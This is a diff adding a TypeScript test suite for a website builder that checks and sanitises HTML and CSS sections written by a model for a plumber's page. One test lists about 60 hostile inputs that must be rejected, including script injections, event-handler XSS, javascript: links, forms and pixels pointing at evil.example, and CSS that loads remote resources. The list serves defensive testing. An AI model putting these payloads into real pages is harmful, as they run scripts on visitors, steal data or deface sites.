@@ -1,0 +1,293 @@
+import { test } from '@japa/runner'
+import {
+  compose,
+  defaultForm,
+  designBriefs,
+  designIn,
+  followPage,
+  renderPage,
+  restyled,
+  read,
+  renderSite,
+  updatePage,
+  withDesigns,
+} from '#designer/main'
+import { readSection } from '#designer/designed/check_markup'
+import { pageToDesign, plumber, prices, sectionOf } from '#designer_tests/helpers/designed'
+
+const page = pageToDesign(plumber)
+const section = sectionOf(page, 'prices')
+const setAs = (design: Partial<typeof prices>) => page.set(section, { ...prices, ...design })
+const whyNot = (design: Partial<typeof prices>) => {
+  const set = setAs(design)
+  return set.ok ? [] : set.error.map(({ why }) => why)
+}
+
+test.group('A section that a model has designed', () => {
+  test('shows the facts of the sheet as they were typed, whatever the model wrote', ({
+    assert,
+  }) => {
+    const set = setAs({})
+    assert.isTrue(set.ok, JSON.stringify(set))
+    const { html } = set.ok ? set.value.printed : prices
+    assert.include(
+      html,
+      '<strong data-slot="price" data-field="offers/boiler-repairs.price">from £60</strong>'
+    )
+    assert.include(
+      html,
+      '<span data-slot="name" data-field="offers/boiler-repairs.name">Boiler repairs</span>'
+    )
+    assert.notInclude(html, '999')
+    assert.match(
+      html,
+      /^<section class="section own x-prices" id="prices" data-section="prices" data-surface="ink" aria-labelledby="x-prices-title">/
+    )
+  })
+
+  test('loses nothing that our own section would show', ({ assert }) => {
+    const [why, ...others] = whyNot({
+      html: prices.html.replace(
+        /<p class="x-prices-one"><span data-field="offers\/leaking[^]*?<\/p>/,
+        ''
+      ),
+    })
+    assert.equal(why, 'The fact offers/leaking-taps.name (“leaking taps”) is not shown.')
+    assert.lengthOf(others, 1)
+  })
+
+  test('knows no fact by another name', ({ assert }) => {
+    const html = prices.html.replace(
+      '<p>I live',
+      '<p data-field="offers/gold.price">£1</p><p>I live'
+    )
+    assert.deepEqual(whyNot({ html }), ['There is no fact called “offers/gold.price”.'])
+  })
+
+  test('leaves out sentences that nobody said, and says which words they had', ({ assert }) => {
+    const html = prices.html.replace(
+      'I live on Mill Lane.',
+      'I live on Mill Lane. Trusted by 400 families since 1950. Cheadle is near.'
+    )
+    const set = setAs({ html })
+    assert.isTrue(set.ok)
+    if (!set.ok) return
+    assert.include(set.value.printed.html, 'I live on Mill Lane. Cheadle is near.')
+    assert.includeMembers(set.value.unsaid, ['400', '1950'])
+  })
+
+  test('is filled with our form, week and pictures', ({ assert }) => {
+    const contact = sectionOf(page, 'contact')
+    const html = `<section class="x-contact"><h2>Write or ring</h2>
+<p><a data-field="contact.telephones/0161-496-0123">ring</a>
+<a data-field="contact.emails/danny-fisk-example">mail</a></p>
+<p>22 years</p><sw-form class="x-contact-form"></sw-form></section>`
+    const set = page.set(contact, { html, css: '.x-contact-form{max-width:30rem}' })
+    assert.isTrue(set.ok, JSON.stringify(set))
+    const printed = set.ok ? set.value.printed.html : ''
+    assert.include(
+      printed,
+      '<form class="x-contact-form form" method="post" action="/_forms/contact">'
+    )
+    assert.include(
+      printed,
+      '<a data-slot="value" href="tel:01614960123" data-field="contact.telephones/0161-496-0123">0161 496 0123</a>'
+    )
+    assert.notInclude(printed, 'sw-form')
+    const without = page.set(contact, {
+      html: html.replace(/<sw-form[^]*<\/sw-form>/, ''),
+      css: '',
+    })
+    assert.include(JSON.stringify(without), '<sw-form></sw-form> is not there')
+  })
+
+  test('is read out of whatever a model has wrapped it in', ({ assert }) => {
+    const answer = `Here you are:\n\n\`\`\`html\n<style>${prices.css}/* … */</style>\n<!-- prices -->${prices.html}\n\`\`\`\nEnjoy!`
+    assert.deepEqual(designIn(answer), prices)
+    for (const other of ['', 'I cannot do that.', '<section', '</section>', '<style>a{}</style>'])
+      assert.isUndefined(designIn(other), other)
+    assert.isUndefined(designIn('x'.repeat(3_000_000)))
+  })
+
+  test('stands on its page with its own style behind ours, and the rest is ours', ({ assert }) => {
+    const sheet = read(plumber, defaultForm)
+    const outline = compose(sheet, defaultForm, { seed: '1' })
+    const html = renderSite(withDesigns(sheet, outline, plumber, { prices: { design: prices } }))
+    const ours = renderSite(withDesigns(sheet, outline, plumber, {}))
+    assert.isAbove(
+      html.indexOf('.x-prices-title'),
+      html.indexOf('Rules below this line are your own')
+    )
+    assert.include(html, '>What it costs</h2>')
+    assert.equal(html.match(/<section/g)!.length, ours.match(/<section/g)!.length)
+    const broken = {
+      prices: { design: { ...prices, html: '<section><script>1</script></section>' } },
+    }
+    assert.equal(renderSite(withDesigns(sheet, outline, plumber, broken)), ours)
+  })
+
+  test('shows what is changed on the sheet later', ({ assert }) => {
+    const sheet = read(plumber, defaultForm)
+    const outline = compose(sheet, defaultForm, { seed: '1' })
+    const html = renderSite(withDesigns(sheet, outline, plumber, { prices: { design: prices } }))
+    const after = structuredClone(sheet)
+    after.offers[0].items[0].value.price = 'from £65'
+    after.contact.telephones[0].value = '0161 496 0999'
+    const updated = updatePage(html, sheet, after)
+    assert.include(
+      updated.html,
+      '<strong data-slot="price" data-field="offers/boiler-repairs.price">from £65</strong>'
+    )
+    assert.include(updated.html, 'tel:01614960999')
+    assert.notInclude(updated.html, '0161 496 0123')
+  })
+
+  test('follows what is typed over on the page, and keeps its form in another look', ({
+    assert,
+  }) => {
+    const sheet = read(plumber, defaultForm)
+    const outline = compose(sheet, defaultForm, { seed: '1' })
+    const site = withDesigns(sheet, outline, plumber, { prices: { design: prices } })
+    const html = renderPage(site, 1)
+    const typed = html.replace('>from £60</strong>', '>from £70</strong>')
+    const followed = followPage(sheet, html, typed)
+    assert.equal(followed.sheet.offers[0].items[0].value.price, 'from £70')
+
+    const other = restyled(html, { look: { primary_color: '#aa2200', theme: 'dark' } })!
+    const own = /<section[^>]*section own[^]*?<\/section>/
+    assert.equal(own.exec(other)![0], own.exec(html)![0])
+    assert.include(other, prices.css)
+    assert.include(other, '--brand: #aa2200')
+  })
+
+  test('is told in full what it has to show', ({ assert }) => {
+    const briefs = designBriefs(page)
+    const brief = briefs.find(({ id }) => id === 'prices')!
+    assert.include(brief.material['Its facts'], 'offers/boiler-repairs.price = from £60')
+    assert.include(
+      brief.material['Other facts'],
+      'contact.telephones/0161-496-0123 = 0161 496 0123 (leads to tel:01614960123)'
+    )
+    assert.equal(brief.material.Prefix, 'x-prices')
+    assert.notInclude(
+      briefs.map(({ id }) => id),
+      'legal'
+    )
+    assert.include(briefs.find(({ id }) => id === 'hours')!.material.Slots, '<sw-hours></sw-hours>')
+  })
+
+  test('of a hostile model is refused, in every one of 60 ways', ({ assert }) => {
+    const inside = (markup: string) => ({
+      html: prices.html.replace('<p>I live', `${markup}<p>I live`),
+    })
+    const ruled = (css: string) => ({ css: `${prices.css}\n${css}` })
+    const hostile = [
+      ...[
+        '<script>alert(1)</script>',
+        '<script src="//evil.example/x.js"></script>',
+        '<img src=x onerror=alert(1)>',
+        '<img src="https://evil.example/pixel.gif" alt="">',
+        '<iframe src="https://evil.example"></iframe>',
+        '<iframe srcdoc="<p>x</p>"></iframe>',
+        '<object data="x.swf"></object>',
+        '<embed src="x">',
+        '<form action="https://evil.example"><input name="card"></form>',
+        '<input type="password" aria-label="Password">',
+        '<button onclick="x()">Go</button>',
+        '<a href="https://evil.example">our shop</a>',
+        '<a href="javascript:alert(1)">x</a>',
+        '<a href="data:text/html,x">x</a>',
+        '<a href="//evil.example">x</a>',
+        '<a href="mailto:evil@evil.example">mail</a>',
+        '<a href="tel:09001234567">ring</a>',
+        '<a href="#x-prices-title" ping="https://evil.example">x</a>',
+        '<p onmouseover="x()">x</p>',
+        '<p style="position:fixed;inset:0">x</p>',
+        '<p style="background:url(https://evil.example)">x</p>',
+        '<link rel="stylesheet" href="https://evil.example/x.css">',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+        '<base href="https://evil.example/">',
+        '<svg viewBox="0 0 1 1"><script>alert(1)</script></svg>',
+        '<svg viewBox="0 0 1 1" onload="alert(1)"></svg>',
+        '<svg viewBox="0 0 1 1"><foreignObject><p>x</p></foreignObject></svg>',
+        '<svg viewBox="0 0 1 1"><image href="https://evil.example/x.png"/></svg>',
+        '<svg viewBox="0 0 1 1"><use href="https://evil.example/x.svg#a"/></svg>',
+        '<svg viewBox="0 0 1 1"><path d="M0 0" fill="url(https://evil.example#a)"/></svg>',
+        '<svg viewBox="0 0 1 1"><animate attributeName="href" values="javascript:x"/></svg>',
+        '<svg viewBox="0 0 1 1"><style>*{display:none}</style></svg>',
+        '<math><mtext></mtext></math>',
+        '<video src="https://evil.example/x.mp4"></video>',
+        '<audio autoplay src="x.mp3"></audio>',
+        '<template><script>1</script></template>',
+        '<noscript><p>x</p></noscript>',
+        '<sw-secret></sw-secret>',
+        '<sw-form></sw-form>',
+        '<dialog open>x</dialog>',
+        '<p id="main">x</p>',
+        '<p class="site-head">x</p>',
+        '<p data-field="contact.telephones/0161-496-0123"><b>09001</b></p>',
+        '<div aria-label="Voted best plumber of 2019 by Which magazine">x</div>',
+        '</div></section><section class="x-prices"><div>',
+        '</div></section></main><script>1</script><main><section class="x-prices"><div>',
+        '<p>'.repeat(10_000),
+      ].map(inside),
+      ...[
+        '@import "https://evil.example/x.css";',
+        '.x-prices{background:url(https://evil.example/x.png)}',
+        '.x-prices{background:image-set("https://evil.example/x.png" 1x)}',
+        '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}',
+        'body{display:none}',
+        '.site-foot{display:none}',
+        '.x-prices ~ section{display:none}',
+        '.x-prices-one{position:fixed;inset:0;z-index:99}',
+        '.x-prices{behavior:url(x.htc)}',
+        '.x-prices{-moz-binding:url(x)}',
+        '.x-prices-one{display:none}',
+        ':root{--brand:#ff0000}',
+        '</style><script>alert(1)</script>',
+      ].map(ruled),
+    ]
+    assert.isAtLeast(hostile.length, 60)
+    const passed = hostile.filter((design) => setAs(design).ok)
+    assert.deepEqual(passed, [])
+  })
+
+  test('takes its colours, fonts and widths from the page', ({ assert }) => {
+    const ruled = (css: string) => whyNot({ css: `${prices.css}\n${css}` })
+    const wrong = [
+      '.x-prices{color:#fff}',
+      '.x-prices{background:red}',
+      '.x-prices{border:1px solid rgb(0 0 0)}',
+      '.x-prices{color:var(--brand)}',
+      '.x-prices{font-family:Comic Sans MS}',
+      '.x-prices{font-size:11px}',
+      '.x-prices-one{width:900px}',
+      '.x-prices-one{min-width:40rem}',
+      '.x-prices-one{grid-template-columns:500px 1fr}',
+      '.x-prices{position:sticky}',
+      '.x-prices-one{opacity:.2}',
+    ].filter((css) => ruled(css).length !== 1)
+    assert.deepEqual(wrong, [])
+    const right = [
+      '.x-prices-one{grid-template-columns:repeat(auto-fit,minmax(min(100%,20rem),1fr))}',
+      '.x-prices-one::before{content:"";background:var(--rule)}',
+      '.x-prices .x-prices-one>strong{color:var(--a);border-color:var(--brand)}',
+      '@media (min-width:60rem){.x-prices-one{width:60rem}}',
+      '.x-prices{--gap:var(--pad-s);gap:var(--gap);box-shadow:none}',
+      '.x-prices{background:color-mix(in srgb,var(--bg) 92%,var(--fg))}',
+      '.x-prices:hover{color:var(--soft)}',
+    ].flatMap(ruled)
+    assert.deepEqual(right, [])
+  })
+
+  test('is one section with headings in order', ({ assert }) => {
+    const said = (html: string) => whyNot({ html })
+    assert.deepEqual(said(prices.html.replace(/h2/g, 'h1')), [
+      'It is not for an h1: begin with h2.',
+      'Its first heading is h2.',
+    ])
+    assert.lengthOf(said(prices.html.replace(/h2/g, 'h3')), 1)
+    assert.lengthOf(said(prices.html.replace('</section>', '')), 1)
+    assert.property(readSection(`${prices.html}<p>more</p>`), 'is')
+  })
+})
